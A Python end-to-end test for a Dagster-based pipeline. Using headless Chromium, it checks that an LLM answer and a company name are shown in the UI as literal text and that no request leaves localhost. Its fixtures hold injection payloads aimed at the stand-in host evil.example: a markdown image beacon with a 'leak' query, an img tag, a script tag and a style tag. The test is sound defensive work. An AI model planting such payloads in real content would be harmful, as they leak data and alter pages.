"""Model text and file-supplied names reach the Dagster UI as inert text (issue 12, item 9).

An assistant's answer and a company name are untrusted. Before, answer previews were markdown, so
opening a partition made the browser fetch an image named in the answer, and a company name with `|`
shifted the analytics table's columns. Here a real answer from the OpenAI SDK (served by the fake
OpenAI server on 127.0.0.1) carries markdown images and links, HTML with <script> and <style>, and
table syntax; the target company's name carries table syntax and an image. One question run and the
org roll-ups are materialized against the production instance, then headless Chromium opens both
assets in a real dagster-webserver: the page shows the text as written, and no request leaves 127.0.0.1.
"""

import dagster as dg
import pytest
from playwright.sync_api import Page, expect, sync_playwright

from icp_pipeline.db.session import session_scope
from icp_pipeline.defs.resources import ModelProviderResource
from icp_pipeline.providers.resilience import PACER
from icp_pipeline.visibility.cycles import desired_org_partitions, open_cycle
from icp_pipeline.visibility.org_file import parse_org_text, upsert_org
from icp_pipeline_tests.e2e.conftest import ProductionStack
from icp_pipeline_tests.e2e.test_ui_browser import (
    CHROMIUM,
    CHROMIUM_ARGS,
    UI_TIMEOUT_MS,
    _local_only,
    _open_ui,
    _save,
)
from icp_pipeline_tests.support.dagster_services import dagster_services
from icp_pipeline_tests.support.fake_providers import FakeOpenAI
from icp_pipeline_tests.support.pipeline import pipeline_defs

pytestmark = pytest.mark.postgres

KEY = "sk-inert-text-test"
EVIL = "evil.example"
COMPANY = f"Pipe | Corp ![c](https://{EVIL}/company.png)"
ANSWER = (
    f"Try Pipe | Corp. ![pixel](https://{EVIL}/pixel.png?leak=answer) "
    f"[docs](https://{EVIL}/docs) <img src=https://{EVIL}/img.png> "
    "<script>document.title='owned'</script><style>body{display:none}</style>\n\n"
    "| col a | col b |\n|---|---|\n| x | y |"
)
ORG = f"""
id: inert
name: Inert Text
target: {{name: "{COMPANY}", domains: [pipecorp.io]}}
competitors:
  - {{name: Globex, domains: [globex.com]}}
models:
  - {{provider: openai, model: gpt-4o-mini}}
locations: [US]
questions:
  - Which pipeline tool should we buy?
"""


def _materialize(stack: ProductionStack, instance: dg.DagsterInstance, key: str) -> None:
    """One question run (bought from the fake OpenAI server) and the org roll-ups, in this process."""
    defs = pipeline_defs(stack.app_url, models=ModelProviderResource(mode="live", openai_api_key=KEY))
    for job, partition in (("question_run_job", key), ("org_rollup_job", "inert")):
        result = defs.resolve_job_def(job).execute_in_process(
            instance=instance, partition_key=partition, raise_on_error=False
        )
        assert result.success, [e.message for e in result.all_events if e.is_failure]


def _metadata_text(page: Page, entry: str) -> str:
    """The page's visible text once the partition's metadata entry `entry` has rendered (the panel
    first shows "No metadata entries" while it loads)."""
    expect(page.get_by_text(entry, exact=True).first).to_be_visible()
    return page.inner_text("body")


def test_answer_and_company_name_reach_the_ui_as_text(
    production_stack: ProductionStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not CHROMIUM.exists():
        pytest.fail("Debian's chromium is required at /usr/bin/chromium: `apt-get install -y chromium`")
    stack = production_stack
    with session_scope(stack.app_url) as session:
        upsert_org(session, parse_org_text(ORG))
        open_cycle(session, "inert")
        _, keys = desired_org_partitions(session)
    (key,) = sorted(keys)

    hosts: list[str | None] = []
    PACER.reset()
    with dg.DagsterInstance.from_config(str(stack.home)) as instance:
        instance.add_dynamic_partitions("question_runs", [key])
        instance.add_dynamic_partitions("orgs", ["inert"])
        with FakeOpenAI(api_key=KEY, answer_text=ANSWER) as server:
            monkeypatch.setenv("OPENAI_BASE_URL", server.url + "/v1")
            monkeypatch.setenv("ICP_DATABASE_URL", stack.app_url)
            _materialize(stack, instance, key)
        PACER.reset()

        with (
            dagster_services(stack.home, stack.service_env(), daemon=False) as services,
            sync_playwright() as playwright,
        ):
            browser = playwright.chromium.launch(
                executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
            )
            page = browser.new_page(viewport={"width": 1600, "height": 1200})
            page.route("**/*", _local_only(hosts))
            page.set_default_timeout(UI_TIMEOUT_MS)
            expect.set_options(timeout=UI_TIMEOUT_MS)
            try:
                _open_ui(page, services)
                page.goto(f"{services.url}/assets/ai_answer?view=partitions&partition={key}")
                answer_page = _metadata_text(page, "answer_preview")
                _save(page, "ui_inert_answer")
                page.goto(f"{services.url}/assets/org_analytics?view=partitions&partition=inert")
                analytics_page = _metadata_text(page, "companies")
                expect(page.get_by_text(COMPANY, exact=True).first).to_be_visible()
                _save(page, "ui_inert_analytics")
                title = page.title()
            except BaseException:
                _save(page, "ui_inert_failure", html=True)
                raise
            finally:
                browser.close()

    # The answer's preview is the answer's text, markup and all, not its rendering.
    for fragment in (f"![pixel](https://{EVIL}/pixel.png?leak=answer)", "<script>", "<style>", "|---|---|"):
        assert fragment in answer_page, fragment
    # The company name is one table cell, verbatim; its `|` split no column.
    assert COMPANY in analytics_page
    assert title != "owned"
    # Nothing named in the answer or the name was fetched: every request went to the webserver.
    assert hosts and set(hosts) == {"127.0.0.1"}, sorted({h for h in hosts if h})
